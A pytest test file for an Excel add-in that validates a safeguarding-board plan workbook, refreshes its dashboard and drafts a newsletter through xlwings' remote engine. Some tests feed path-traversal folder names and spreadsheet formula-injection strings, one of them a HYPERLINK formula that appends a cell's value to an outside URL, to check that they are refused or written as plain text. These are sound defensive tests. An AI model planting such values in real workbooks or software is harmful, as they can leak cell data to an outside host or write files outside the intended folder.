"""Tests for the Excel buttons, run through xlwings' remote engine (the engine of xlwings Server): no Excel needed."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from cseplan_xl import build, contract, dashboard, excel
from cseplan_xl.plan import load_plan
from cseplan_xl.rollups import rollup

xw: Any = None  # imported by the fixture below, with the licence key set

REPO = Path(__file__).resolve().parents[1]
NOW = dt.datetime(2018, 4, 3, 9, 30)


@pytest.fixture(scope="module", autouse=True)
def _remote_engine():
    """xlwings' remote engine, licensed non-commercial (public safety) for these tests only: xlwings checks the key
    when first imported, so the engine is registered here if xlwings was imported before."""
    global xw
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
        import xlwings

        if "remote" not in [e.name for e in xlwings.engines]:
            from xlwings.pro import _xlremote

            xlwings.engines.add(xlwings.Engine(impl=_xlremote.engine))
        xw = xlwings
        yield


@pytest.fixture(autouse=True)
def _clock(monkeypatch):
    monkeypatch.setattr(excel, "_now", lambda: NOW)
    monkeypatch.setattr(excel, "_clock", lambda: 0.0)  # every run takes 0 s unless a test says otherwise


@pytest.fixture(scope="module")
def real_path(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("wb") / "cseplan.xlsm"
    path.write_bytes(build.workbook_bytes())
    return path


def _json_cell(value: Any) -> Any:
    # Office.js sends dates as ISO text ending in Z; xlwings turns them back into datetimes.
    if isinstance(value, dt.datetime):
        return value.isoformat() + ".000Z"
    if isinstance(value, dt.date):
        return dt.datetime.combine(value, dt.time()).isoformat() + ".000Z"
    return value


def payload(path: Path, edit: dict[str, Any] | None = None, drop: tuple[str, ...] = ()) -> dict[str, Any]:
    """The JSON book the xlwings client sends, built from a workbook's sheets; edit {"Sheet!A1": value}."""
    wb = CalamineWorkbook.from_path(str(path))
    sheets = []
    for name in wb.sheet_names:
        if name in drop:
            continue
        grid = [[_json_cell(v) for v in row] for row in wb.get_sheet_by_name(name).to_python(skip_empty_area=False)]
        sheets.append({"name": name, "values": grid or [[]], "pictures": [], "tables": []})
    for address, value in (edit or {}).items():
        sheet, cell = address.split("!")
        letters, number = re.fullmatch(r"([A-Z]+)(\d+)", cell).groups()
        values = next(s for s in sheets if s["name"] == sheet)["values"]
        row, col = int(number) - 1, ord(letters) - 65
        width = max(len(values[0]), col + 1)
        values.extend([] for _ in range(row + 1 - len(values)))
        for cells in values:
            cells.extend([""] * (width - len(cells)))
        values[row][col] = _json_cell(value)
    return {"client": "Office.js", "version": xw.__version__,
            "book": {"name": path.name, "active_sheet_index": 0, "selection": "A1"},
            "names": [], "sheets": sheets}


def run(function, path: Path, **kwargs) -> tuple[Any, list[dict[str, Any]]]:
    book = xw.Book(json=payload(path, **kwargs))
    function(book)
    return book, book.json()["actions"]


def writes(book, actions, sheet: str) -> list[dict[str, Any]]:
    names = [s.name for s in book.sheets]
    return [a for a in actions if a["func"] == "setValues" and names[a["sheet_position"]] == sheet]


def alert(actions) -> str:
    (found,) = [a for a in actions if a["func"] == "alert"]
    return found["args"][0]


def cell_of(action: dict[str, Any]) -> str:
    return f"{chr(65 + action['start_column'])}{action['start_row'] + 1}"


# --- Validate plan ---------------------------------------------------------------------------------


def test_validate_writes_each_finding_with_a_link_to_its_cell(demo_path):
    book, actions = run(excel.validate_plan, demo_path)
    (block,) = writes(book, actions, "Validation")
    assert cell_of(block) == "A3"
    rows = block["values"]
    links = [r[1] for r in rows]
    for address in ("Plan!I10", "Plan!H7", "Plan!G23", "Plan!M20", "Plan!F22", "Referrals!D10", "Media!G11",
                    "Anecdotes!G8"):
        sheet, cell = address.split("!")
        assert f'=HYPERLINK("#{address}","{address}")' in links
    by_cell = {re.search(r'","(.+)"\)$', r[1]).group(1): r for r in rows}
    assert by_cell["Plan!I10"][:5] == ["error", by_cell["Plan!I10"][1], "rag-invalid", "6.1-08", "Gren"]
    assert by_cell["Plan!H7"][2:5] == ["cost-invalid", "6.1-05", "about 500"]
    assert by_cell["Plan!M20"][2] == "rebaseline-reason-missing"
    assert [r[0] for r in rows].count("error") == 11  # 8 planted mistakes and the planted anecdote's 3 privacy hits
    assert [r[0] for r in rows].count("warning") == 8  # 7 planted and the placeholder contact mailbox
    assert all(len(r) == 6 for r in rows)


def test_validate_clears_old_results_and_never_writes_the_plan(demo_path):
    old = {"Validation!A3": "error", "Validation!F3": "stale", "Validation!A40": "warning"}
    book, actions = run(excel.validate_plan, demo_path, edit=old)
    names = [s.name for s in book.sheets]
    (clear,) = [a for a in actions if a["func"] == "rangeClearContents"]
    assert names[clear["sheet_position"]] == "Validation"
    assert (clear["start_row"], clear["start_column"], clear["row_count"], clear["column_count"]) == (2, 0, 38, 6)
    assert not [a for a in actions if a["sheet_position"] is not None and names[a["sheet_position"]] == "Plan"]


def test_validate_sets_the_control_status_and_alerts(demo_path):
    book, actions = run(excel.validate_plan, demo_path)
    (status,) = writes(book, actions, "Control")
    assert cell_of(status) == "B20"
    assert status["values"][1:-1] == [["Validate plan"], [alert(actions).splitlines()[0]], [11], [8]]
    assert status["values"][0] == ["2018-04-03 09:30:00"]  # the remote engine sends datetimes as text
    text = alert(actions)
    assert text.startswith("11 errors, 8 warnings (as of 31 Mar 2018). Fix the errors")
    assert "Plan!H7: cost 'about 500' is not understood" in text
    assert "... and 6 more." in text


def test_the_plan_marks_come_from_the_validation_sheet(demo_path):
    # Validate writes nothing on the Plan: conditional formats built into it colour each cell the Validation
    # sheet lists (and the ID of its row), so a re-run's new list replaces the old marks and the officer's own
    # formatting is never touched.
    import zipfile

    with zipfile.ZipFile(demo_path) as zf:
        sheet = zf.read("xl/worksheets/sheet2.xml").decode()
    assert 'sqref="A3:U1000"' in sheet
    assert 'COUNTIFS(Validation!$B$3:$B$5000,"Plan!"&amp;ADDRESS(ROW(),COLUMN(),4),' in sheet
    assert 'COUNTIFS(Validation!$B$3:$B$5000,"Plan!??"&amp;ROW(),Validation!$A$3:$A$5000,"error")' in sheet


def test_validate_on_the_real_workbook_finds_no_errors(real_path):
    book, actions = run(excel.validate_plan, real_path)
    text = alert(actions)
    assert text.startswith("0 errors, ")
    assert "No errors: the list is on the Validation sheet" in text
    assert writes(book, actions, "Control")[0]["values"][3] == [0]


# --- Refresh dashboard ---------------------------------------------------------------------------


def test_refresh_writes_only_the_derived_columns_of_the_plan(demo_path):
    book, actions = run(excel.refresh_dashboard, demo_path)
    plan_writes = writes(book, actions, "Plan")
    assert [cell_of(a) for a in plan_writes] == ["R3", "S3", "T3", "U3"]
    assert all(a["start_column"] >= 15 and a["column_count"] == 1 for a in plan_writes)
    result = rollup(load_plan(demo_path))
    assert [v[0] for v in plan_writes[0]["values"]] == [s.derived_rag for s in result.statuses]
    by_id = {s.id: i for i, s in enumerate(result.statuses)}
    breck = result.statuses[by_id["6.2-06"]]
    assert plan_writes[0]["values"][by_id["6.2-06"]] == ["Red"] and breck.overdue
    assert plan_writes[3]["values"][by_id["6.2-06"]] == [breck.overdue_days]
    assert plan_writes[2]["values"][by_id["6.2-06"]] == [breck.end.isoformat()]
    assert plan_writes[3]["values"][by_id["6.1-01"]] == [""]  # blanks travel as ""
    # One schedule per activity: 6.2-09, re-dated to Summer 2018 (Original When "Autumn 2017/ Early 2018"), has the
    # same dates on the Plan sheet as in the rollup, the newsletter and the CLI: its current When's
    assert (plan_writes[1]["values"][by_id["6.2-09"]], plan_writes[2]["values"][by_id["6.2-09"]]) == (
        ["2018-06-01"], ["2018-08-31"])


def test_refresh_writes_the_rollup_to_the_dashboard(demo_path):
    book, actions = run(excel.refresh_dashboard, demo_path)
    dash = writes(book, actions, "Dashboard")
    assert [cell_of(a) for a in dash] == [contract.DASHBOARD_STATUS_CELL, f"A{contract.DASHBOARD_TABLES_ROW}"]
    names = [s.name for s in book.sheets]
    (clear,) = [a for a in actions if a["func"] == "rangeClearContents" and names[a["sheet_position"]] == "Dashboard"]
    # Only the columns Refresh dashboard writes (A:I): the campaign-month formulas in S:U stay.
    assert (clear["start_row"] + 1, clear["start_column"], clear["column_count"]) == (
        contract.DASHBOARD_TABLES_ROW, 0, 9)
    assert dash[0]["values"][0][0].startswith("Refreshed 3 Apr 2018 09:30; RAG as of 31 Mar 2018.")
    rows = dash[1]["values"]
    assert rows[0][0] == "Where the plan stands on 31 Mar 2018 (worst-of with counts, never an average)"
    assert rows[1] == ["Group", "Key", "Worst RAG", "Red", "Amber", "Green", "Blue", "Grey", "Total"]
    result = rollup(load_plan(demo_path))
    expected = [[r["group"], r["key"], r["rag"], r["Red"], r["Amber"], r["Green"], r["Blue"], r["Grey"],
                 r["total"]] for r in result.csv_rows()]
    assert rows[2:2 + len(expected)] == expected
    assert ["owner", "LW", "Amber", 0, 1, 0, 0, 1, 2] in expected  # "LW/CT" counts for LW and for CT
    assert [f"Overdue ({len(result.overdue)})"] + [""] * 8 in rows
    assert any(r[0] == "6.2-06" for r in rows)  # the Breck launch, overdue
    assert any(str(r[0]).startswith("Evaluation for") for r in rows)


def test_refresh_appends_a_dated_history_snapshot_and_replaces_one_of_the_same_date(demo_path):
    book, actions = run(excel.refresh_dashboard, demo_path)
    (block,) = writes(book, actions, "History")
    assert cell_of(block) == "A3"
    result = rollup(load_plan(demo_path))
    assert block["values"] == [["2018-03-31", s.id, s.reported_rag or "", s.derived_rag] for s in result.statuses]
    earlier = {"History!A3": dt.date(2018, 2, 28), "History!B3": "6.1-01", "History!D3": "Amber"}
    book, actions = run(excel.refresh_dashboard, demo_path, edit=earlier)
    (block,) = writes(book, actions, "History")
    assert cell_of(block) == "A4"
    dashboard = writes(book, actions, "Dashboard")[1]["values"]
    at = dashboard.index(["Changes since the snapshot of 28 Feb 2018 (24)"] + [""] * 8)
    assert dashboard[at + 2] == ["6.1-01", result.statuses[0].activity, "changed", "Amber", "Blue", "", "", "", ""]
    same_day = {**earlier, "History!A4": dt.date(2018, 3, 31), "History!B4": "6.1-01", "History!D4": "Blue"}
    book, actions = run(excel.refresh_dashboard, demo_path, edit=same_day)
    (block,) = writes(book, actions, "History")
    assert cell_of(block) == "A4"  # the 28 Feb snapshot stays; the one of the same as-of date is replaced
    assert alert(actions).startswith("Dashboard refreshed as of 31 Mar 2018: overall Red: ")


# --- Draft newsletter ----------------------------------------------------------------------------


def test_draft_newsletter_writes_a_docx_and_never_overwrites(demo_path, tmp_path, monkeypatch):
    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path))  # the server's folder; the workbook names one inside it
    out = tmp_path / "drafts"
    book, actions = run(excel.draft_newsletter, demo_path, edit={"Control!B12": "drafts"})
    text = alert(actions)
    path = out / "NSCB_2018Q1_draft.docx"
    assert re.fullmatch(rf"Wrote {re.escape(str(path))} \(\d+ words\)\.", text.splitlines()[0])
    # the placeholder contact and the cells left out of the figures are named for the officer, outside the article
    assert text.splitlines()[1] == ("Contact mailbox is not set yet: fill in Control!B13; until then the draft says "
                                    "[contact to be added].")
    assert text.splitlines()[2:4] == ["Left out of the figures (also in the document's properties, Comments):",
                                      "  Referrals!D10: teenage boys (5) is more than boys (3)"]
    assert path.read_bytes()[:2] == b"PK"
    book, actions = run(excel.draft_newsletter, demo_path, edit={"Control!B12": "drafts"})
    first, second = alert(actions).splitlines()[:2]
    assert first == "NSCB_2018Q1_draft.docx already exists, so this draft has a new name."
    assert second.startswith(f"Wrote {out / 'NSCB_2018Q1_draft-2.docx'} (")
    assert writes(book, actions, "Control")[0]["values"][1:] == [["Draft newsletter"], [alert(actions).splitlines()[0]],
                                                                  [0], [0], [0.0]]


def test_draft_newsletter_without_a_folder_uses_a_temp_folder(demo_path, tmp_path, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.delenv(excel.SERVER_FOLDER, raising=False)
    _, actions = run(excel.draft_newsletter, demo_path)
    path = tmp_path / "cseplan-xl" / "out" / "NSCB_2018Q1_draft.docx"
    assert alert(actions).startswith(f"Wrote {path} (") and path.exists()


def test_draft_newsletter_without_a_reporting_period_takes_the_last_complete_quarter(demo_path, tmp_path,
                                                                                     monkeypatch):
    # the same default as `cseplan evaluate` and the Dashboard's evaluation: as of 30 March 2018, 2017Q4 (as of
    # 31 March, the quarter ending that day)
    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path))
    edit = {"Control!B11": None, "Control!B12": None, "Control!B10": "2018-03-30"}
    _, actions = run(excel.draft_newsletter, demo_path, edit=edit)
    assert alert(actions).startswith(f"Wrote {tmp_path / 'NSCB_2017Q4_draft.docx'} (")


def test_draft_newsletter_blocked_by_the_privacy_screen_names_the_cell(demo_path, tmp_path, monkeypatch):
    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path))
    unsafe = {"Control!B12": None, "Anecdotes!E7": "Yes", "Anecdotes!F7": "Yes", "Anecdotes!G7": "Yes"}
    book, actions = run(excel.draft_newsletter, demo_path, edit=unsafe)
    text = alert(actions)
    assert text.startswith("Not written: the privacy screen found")
    assert "Anecdotes!D7: " in text
    # the button has no --allow: the alert says how to fix the text instead
    assert text.rstrip().endswith("Take the personal details out of those cells (an anecdote can instead be set to "
                                  "Publish: No), then click Draft newsletter again.")
    assert "--" not in text
    assert not list(tmp_path.glob("*.docx"))


def test_draft_newsletter_blocks_personal_data_in_any_sheet_or_setting(demo_path, tmp_path, monkeypatch):
    from test_privacy import ISSUE_CASES

    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path))
    _, actions = run(excel.draft_newsletter, demo_path, edit={"Control!B12": None, **ISSUE_CASES})
    text = alert(actions)
    assert text.startswith("Not written: the privacy screen found")
    for address in ("Plan!D10", "Anecdotes!B4", "Control!B13", "Control!B14"):
        assert f"  {address}: " in text, address
    assert "john.smith@hotmail.co.uk" in text and not list(tmp_path.rglob("*.docx"))


@pytest.mark.parametrize("folder", ["/tmp/elsewhere", "../../etc", "drafts/../../up", "C:\\Users\\Public",
                                    "\\\\fileserver\\share", "..\\up"])
def test_under_the_server_the_workbook_cannot_choose_where_it_writes(demo_path, tmp_path, monkeypatch, folder):
    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path / "server"))
    before = sorted(p for p in tmp_path.parent.rglob("*.docx"))
    book, actions = run(excel.draft_newsletter, demo_path, edit={"Control!B12": folder})
    text = alert(actions)
    assert text == (f"Control!B12: Output folder {folder!r} is refused under xlwings Server: the server writes only "
                    f"inside its own folder ({excel.SERVER_FOLDER}); give a folder name without a drive, a leading "
                    "slash or '..', or leave it blank")
    assert sorted(p for p in tmp_path.parent.rglob("*.docx")) == before  # nothing written anywhere


def test_under_the_server_a_plain_folder_name_stays_inside_the_server_folder(demo_path, tmp_path, monkeypatch):
    monkeypatch.setenv(excel.SERVER_FOLDER, str(tmp_path))
    _, actions = run(excel.draft_newsletter, demo_path, edit={"Control!B12": "board drafts"})
    assert alert(actions).startswith(f"Wrote {tmp_path / 'board drafts' / 'NSCB_2018Q1_draft.docx'} (")


def test_a_local_workbook_keeps_its_own_output_folder(demo_path, tmp_path):
    # classic RunPython: the officer's own Excel, the folder beside the workbook (an absolute path is theirs to give)
    from cseplan_xl.plan import load_plan

    assert excel._output_folder(load_plan(demo_path)) == demo_path.parent / "out"


# --- errors --------------------------------------------------------------------------------------


def test_a_missing_plan_sheet_gives_a_readable_alert(demo_path):
    book, actions = run(excel.validate_plan, demo_path, drop=("Plan",))
    text = alert(actions)
    assert text.startswith("cseplan_demo.xlsm: no Plan sheet (sheets found: Control, Owners,")
    assert "Traceback" not in text
    assert writes(book, actions, "Control")[0]["values"][2] == [text]


def test_an_unexpected_error_is_one_line(demo_path, monkeypatch):
    import cseplan_xl.rules

    def boom(*args, **kwargs):
        raise RuntimeError("disk on fire\nsecond line")

    monkeypatch.setattr(cseplan_xl.rules, "check_plan", boom)
    _, actions = run(excel.validate_plan, demo_path)
    assert alert(actions) == "Something went wrong: RuntimeError: disk on fire"


def test_no_book_means_the_calling_workbook(demo_path, monkeypatch):
    book = xw.Book(json=payload(demo_path))
    monkeypatch.setattr(xw.Book, "caller", staticmethod(lambda: book))
    excel.validate_plan()
    assert alert(book.json()["actions"]).startswith("11 errors")


# --- Run chosen action ---------------------------------------------------------------------------


def test_run_chosen_action_runs_the_action_named_on_control(demo_path, monkeypatch):
    called = []
    monkeypatch.setattr(excel, "refresh_dashboard", called.append)
    action = f"Control!B{contract.CONTROL_ACTION_ROW}"
    book = xw.Book(json=payload(demo_path, edit={action: "Refresh dashboard"}))
    monkeypatch.setattr(xw.Book, "caller", staticmethod(lambda: book))
    excel.run_chosen_action()
    assert called == [book]
    book = xw.Book(json=payload(demo_path, edit={action: " refresh  DASHBOARD "}))
    excel.run_chosen_action()
    assert called == [called[0], book]
    for edit, drop in (({action: None}, ()), ({action: "Validate the plan"}, ()), ({}, ("Control",))):
        book = xw.Book(json=payload(demo_path, edit=edit, drop=drop))
        excel.run_chosen_action()
        assert alert(book.json()["actions"]) == "Choose an action in the Action cell on Control, then click Run."
        assert [a["func"] for a in book.json()["actions"]] == ["alert"]


def test_only_the_adapter_imports_xlwings():
    sources = (REPO / "src" / "cseplan_xl").glob("*.py")
    importers = sorted(p.name for p in sources if re.search(r"^\s*(import|from) xlwings", p.read_text(), re.M))
    assert importers == ["excel.py"]
    assert "xlwings.pro" not in (REPO / "src" / "cseplan_xl" / "excel.py").read_text()


# --- the live Dashboard agrees with the rollup ---------------------------------------------------

_RECALC = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""
# CSV export of every sheet: comma, double quote, UTF-8, formatted values, one file per sheet (-1).
_CSV_ALL = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


def _month_shown(text: str) -> tuple[int, int]:
    """(year, month) of a month as LibreOffice shows it: "Jan 2016", or "02/01/2016" in its en-US default."""
    import datetime as dt

    for form in ("%b %Y", "%m/%d/%Y", "%Y-%m-%d"):
        try:
            day = dt.datetime.strptime(text, form)
        except ValueError:
            continue
        return day.year, day.month
    raise AssertionError(f"not a month: {text!r}")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_live_dashboard_formulas_agree_with_the_rollup(demo_path, tmp_path):
    import csv
    from collections import Counter

    import openpyxl

    book, actions = run(excel.refresh_dashboard, demo_path)
    # Apply Refresh dashboard's Plan writes to a throwaway copy (openpyxl drops shapes: never the real file).
    copy = openpyxl.load_workbook(demo_path)
    for action in writes(book, actions, "Plan"):
        for i, (value,) in enumerate(action["values"]):
            copy["Plan"].cell(action["start_row"] + 1 + i, action["start_column"] + 1, value or None)
    # The officer adds a theme on Lists and uses it; another row's theme is in no list.
    copy["Lists"]["C9"] = "Online grooming"
    copy["Plan"]["D3"] = "Online grooming"
    copy["Plan"]["D4"] = "Not a listed theme"
    refreshed = tmp_path / "refreshed.xlsx"
    copy.save(refreshed)
    profile = tmp_path / "lo"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(_RECALC, encoding="utf-8")
    subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", _CSV_ALL,
                    "--outdir", str(tmp_path), str(refreshed)], check=True, capture_output=True, timeout=180)
    with open(tmp_path / "refreshed-Dashboard.csv", encoding="utf-8", newline="") as fh:
        grid = list(csv.reader(fh))
    head = contract.DASHBOARD_LIVE_ROW  # 0-based index of the header row below the heading
    assert grid[head][:8] == ["Theme", "Derived (worst)", "Red", "Amber", "Green", "Blue", "Grey", "Total"]
    live = {row[0]: row for row in grid[head + 1:head + 3 + contract.DASHBOARD_THEME_ROWS]}
    plan = load_plan(refreshed)
    result = rollup(plan)
    expected = {g.key: g for g in result.groups["theme"]}
    expected["Other or no theme (not in the Lists)"] = expected.pop("Not a listed theme")
    expected["All activities"] = result.overall
    assert set(live) == {*expected, ""}
    assert live["Online grooming"][7] == "1"
    for key, group in expected.items():
        counts = [str(group.counts[rag]) for rag in ("Red", "Amber", "Green", "Blue", "Grey")]
        assert live[key][1:8] == [group.rag or "", *counts, str(group.total)], key
    reported = {rag: sum(a.rag == rag for a in plan.activities) for rag in ("Red", "Amber", "Green", "Blue", "Grey")}
    assert live["All activities"][10:17] == [*(str(n) for n in reported.values()),
                                             str(len(plan.activities) - sum(reported.values())),
                                             str(len(plan.activities))]
    # The shaded referral months: posts and coverage tagged with a campaign other than General awareness.
    items: Counter = Counter()
    for spec in (contract.SOCIAL, contract.MEDIA):
        for r in plan.records(spec):
            if r["date"] and r["campaign"] not in (None, dashboard.GENERAL_CAMPAIGN):
                items[r["date"].replace(day=1)] += 1
    months = [r["month"] for r in plan.records(contract.REFERRALS)]
    # Compare months as (year, month): LibreOffice has shown a formula cell's month both as "Jan 2016" and as
    # "02/01/2016" (en-US month first) from run to run, and the values, not the display format, are what must agree.
    assert [(_month_shown(row[18]), row[19], row[20]) for row in grid[head + 1:head + 1 + len(months)]] == [
        ((m.year, m.month), str(items[m]), "1" if items[m] else "0") for m in months]
    assert sum(bool(items[m]) for m in months) == 4  # Nov 2017 and Jan-Mar 2018 in the demo


# --- Check setup ----------------------------------------------------------------------------------


def test_check_setup_shows_everything_in_one_alert(demo_path):
    import sys

    book, actions = run(lambda b: excel.check_setup(b, vba_version=xw.__version__), demo_path)
    assert [a["func"] for a in actions] == ["alert"]
    text = alert(actions)
    assert f"OK      Python: {sys.version.split()[0]} at {sys.executable}" in text
    assert f"OK      xlwings: {xw.__version__}" in text
    assert f"OK      VBA of this workbook: xlwings {xw.__version__}" in text
    assert "OK      cseplan-xl: " in text and "OK      Workbook: local: cseplan_demo.xlsm" in text
    assert "Output folder: " in text and "xlwings configuration" not in text  # Excel has just started this Python
    _, actions = run(lambda b: excel.check_setup(b, vba_version="0.30.0"), demo_path)
    assert "NOT OK  VBA of this workbook: xlwings 0.30.0 (different)" in alert(actions)


# --- progress and timing ---------------------------------------------------------------------------


class _StatusBar:
    """A book whose app records what is put on its status bar (the remote engine has none)."""

    def __init__(self, book: Any) -> None:
        self._book, self.bar = book, []

    def __getattr__(self, name: str) -> Any:
        if name == "app":
            return self
        return getattr(self._book, name)

    def __setattr__(self, name: str, value: Any) -> None:
        if name == "status_bar":
            self.bar.append(value)
        else:
            object.__setattr__(self, name, value)

    def alert(self, *args: Any, **kwargs: Any) -> Any:
        return self._book.app.alert(*args, **kwargs)


def test_status_bar_says_what_is_happening_and_is_cleared(demo_path, monkeypatch):
    ticks = iter([100.0, 102.44])
    monkeypatch.setattr(excel, "_clock", lambda: next(ticks))
    book = xw.Book(json=payload(demo_path))
    watched = _StatusBar(book)
    excel.validate_plan(watched)
    assert watched.bar == ["cseplan-xl: Validate plan: reading the workbook…", "cseplan-xl: Checking 24 rows…",
                           "cseplan-xl: Writing 20 findings…", False]
    (status,) = writes(book, book.json()["actions"], "Control")
    assert cell_of(status) == "B20" and status["values"][-1] == [2.4]
    book = xw.Book(json=payload(demo_path))
    watched = _StatusBar(book)
    monkeypatch.setattr(excel, "_clock", lambda: 0.0)
    excel.refresh_dashboard(watched)
    assert watched.bar[1:] == ["cseplan-xl: Working out RAG for 24 activities…",
                               "cseplan-xl: Evaluating and writing the dashboard…",
                               "cseplan-xl: Saving a snapshot to History…", False]


# --- No formula the project did not build --------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+2", "\r=1+3"]


def _hostile_edits() -> dict[str, Any]:
    """Injected text in the cells the buttons copy out: IDs (Validation, Dashboard, History), activities, owners,
    themes, sections and a RAG value (which comes back in messages)."""
    edits: dict[str, Any] = {}
    for i, text in enumerate(HOSTILE):
        row = 3 + i
        edits[f"Plan!A{row}"] = text  # ID
        edits[f"Plan!E{row}"] = text + " activity"  # Activity
    edits["Plan!G3"] = HOSTILE[0]  # Who: an unknown owner, quoted in a finding's value and message
    edits["Plan!D4"] = HOSTILE[3]  # Theme: a rollup key
    edits["Plan!B5"] = HOSTILE[1]  # Section: a rollup key
    edits["Plan!I6"] = HOSTILE[2]  # RAG: not a RAG value
    return edits


def _written_values(actions: list[dict[str, Any]]) -> list[Any]:
    """Every value of every write, from xlwings' list of actions; any other kind of action fails the test until it
    is looked at here."""
    values = []
    for action in actions:
        if action["func"] == "setValues":
            values += [v for row in action["values"] for v in row]
        elif action["func"] not in ("alert", "rangeClearContents", "addSheet", "setStatusBar", "resetStatusBar"):
            raise AssertionError(f"a write the test does not know: {action['func']} {action}")
    return values


@pytest.mark.parametrize("button", ["validate_plan", "refresh_dashboard"])
def test_every_value_the_buttons_write_is_data_not_a_formula(demo_path, button):
    book, actions = run(getattr(excel, button), demo_path, edit=_hostile_edits())
    written = _written_values(actions)
    texts = [v for v in written if isinstance(v, str)]
    formulas = [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The only formulas are the links this project builds to a finding's own cell.
    assert all(re.fullmatch(r'=HYPERLINK\("#[^"]*(""[^"]*)*","[^"]*(""[^"]*)*"\)', f) for f in formulas), formulas
    if button == "validate_plan":
        assert '=HYPERLINK("#Plan!G3","Plan!G3")' in formulas  # the link to the injected owner's cell
    # Every injected text that was written at all is written as text.
    for text in HOSTILE:
        assert not any(v.startswith(text) for v in texts)
    assert any(v.startswith("'" + HOSTILE[0]) for v in texts)
    # An ID or activity is tidied as it is read (" \t=1+2" -> "=1+2"): still written as text.
    assert any(v.startswith(("'\r=1+3", "'=1+3")) for v in texts)
    assert any(v.startswith(("'\t=1+2", "'=1+2")) for v in texts)

